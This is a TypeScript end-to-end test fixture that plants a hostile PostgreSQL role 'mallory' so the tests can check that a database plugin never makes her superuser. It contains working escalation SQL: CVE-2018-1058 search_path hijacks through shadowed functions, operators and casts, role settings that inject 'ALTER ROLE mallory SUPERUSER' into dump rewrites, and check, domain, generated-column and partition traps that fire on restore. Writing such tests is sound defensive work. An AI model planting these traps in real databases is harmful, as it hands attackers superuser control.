import type { SqlRunner } from './fingerprint.ts';

/**
 * A login role that lays the CVE-2018-1058 traps for the plugin's superuser sessions (issue of the hostile roles):
 * a `public.quote_ident(name)` and a `public.|| (name, text)` that match the plugin's arguments better than
 * pg_catalog's, and a cast of her table's rows to text (found by type, whatever the search_path), each making
 * `mallory` superuser when a superuser calls it; her own settings that break a per-line edit of the globals
 * (SETTINGS_TRAP); and a database of hers whose default
 * search_path puts public first. On 10 to 14 anyone may create in public; from 15 a DBA has to grant it, as this
 * one did. e2e cases plant it before their fingerprint and assert that she is still NOSUPERUSER afterwards.
 */
export const HOSTILE_ROLE = 'mallory';

const trap = (body: string) => `language plpgsql as $f$ begin
  if pg_catalog.current_setting('is_superuser') = 'on' then execute 'alter role ${HOSTILE_ROLE} superuser'; end if;
  ${body}
end $f$`;

const TRAPS = `set role ${HOSTILE_ROLE};
create function public.quote_ident(name) returns text ${trap('return pg_catalog.quote_ident($1::text);')};
create function public.mallory_cat(name, text) returns text ${trap('return pg_catalog.textcat($1::text, $2);')};
create operator public.|| (leftarg = name, rightarg = text, function = public.mallory_cat);
create table public.mallory_notes (id int primary key, note text);
insert into public.mallory_notes select g, 'note ' || g from generate_series(1, 20) g;
create function public.mallory_row_text(public.mallory_notes) returns text ${trap('return pg_catalog.textcat($1.id::text, $1.note);')};
create cast (public.mallory_notes as text) with function public.mallory_row_text(public.mallory_notes);
reset role;`;

/**
 * Her settings that break a per-line edit of `pg_dumpall --globals-only` (issue 24): a multi-line search_path whose
 * second line looks like the target superuser's `ALTER ROLE … WITH` (which the dump's rewrite drops), and a
 * temp_tablespaces whose second line would then run as SQL as the target's superuser. She sets them herself.
 */
const SETTINGS_TRAP = `set role ${HOSTILE_ROLE};
do $d$ begin
  execute pg_catalog.format('alter role current_user set search_path = %L', E'a\nALTER ROLE ' operator(pg_catalog.||) session_user operator(pg_catalog.||) ' WITH x');
  execute pg_catalog.format('alter role current_user set temp_tablespaces = %L', E'\n; ALTER ROLE ${HOSTILE_ROLE} SUPERUSER; --');
end $d$;
reset role;`;

/** Plants the role, her settings and her traps in postgres and in her own database `mallorys`. */
export async function plantHostileRole(sql: SqlRunner): Promise<void> {
  await sql(
    'postgres',
    `create role ${HOSTILE_ROLE} login password 'mallory-pass-1'; grant create on schema public to ${HOSTILE_ROLE}`,
  );
  await sql('postgres', SETTINGS_TRAP);
  await sql('postgres', `create database mallorys owner ${HOSTILE_ROLE}`);
  await sql('mallorys', `grant create on schema public to ${HOSTILE_ROLE}`);
  for (const db of ['postgres', 'mallorys']) await sql(db, TRAPS);
  await sql('postgres', `alter database mallorys set search_path = public, pg_catalog`);
}

/** Whether she became superuser (through anyone's session that resolved a trap). */
export async function hostileRoleIsSuperuser(sql: SqlRunner): Promise<boolean> {
  return (
    (await sql('postgres', `select rolsuper from pg_catalog.pg_roles where rolname = '${HOSTILE_ROLE}'`)).trim() === 't'
  );
}

/**
 * Her traps for a logical load (issue 24, §1): expressions that pg_restore evaluates per row while it loads the data
 * with COPY as the restoring role, the target's superuser: a CHECK constraint, a domain's CHECK, a stored
 * generated column, a CHECK through an operator of hers and a partition key, each calling a function of hers that returns true (or its argument) and makes her superuser
 * when a superuser calls it. Planted apart from plantHostileRole: the dump method refuses a database with them.
 */
const LOAD_TRAPS = `set role ${HOSTILE_ROLE};
create function public.mallory_ok(int) returns boolean ${trap('return true;')};
create function public.mallory_gen_v(int) returns int ${trap('return $1;')};
-- A generated column takes IMMUTABLE functions only, and those may not ALTER ROLE: an immutable one that calls a
-- volatile one may (each PL/pgSQL function is read-only by its own volatility).
create function public.mallory_gen(int) returns int language plpgsql immutable as $f$ begin return public.mallory_gen_v($1); end $f$;
create table public.mallory_checked (x int check (public.mallory_ok(x)));
insert into public.mallory_checked select g from generate_series(1, 5) g;
create domain public.mallory_int as int check (public.mallory_ok(value));
create table public.mallory_typed (x public.mallory_int);
insert into public.mallory_typed select g from generate_series(1, 5) g;
create table public.mallory_generated (x int, y int generated always as (public.mallory_gen(x)) stored);
insert into public.mallory_generated (x) select g from generate_series(1, 5) g;
create function public.mallory_same(int, int) returns boolean ${trap('return $1 = $2;')};
create operator public.=~= (leftarg = int, rightarg = int, function = public.mallory_same);
create table public.mallory_op (x int check (x operator(public.=~=) x));
insert into public.mallory_op select g from generate_series(1, 5) g;
create table public.mallory_parts (x int) partition by range (public.mallory_gen(x));
create table public.mallory_parts_1 partition of public.mallory_parts for values from (0) to (100);
insert into public.mallory_parts select g from generate_series(1, 5) g;
reset role;`;

/** The role (plantHostileRole) and, in her database `mallorys`, the load traps. */
export async function plantHostileLoadTraps(sql: SqlRunner): Promise<void> {
  await sql('mallorys', LOAD_TRAPS);
}
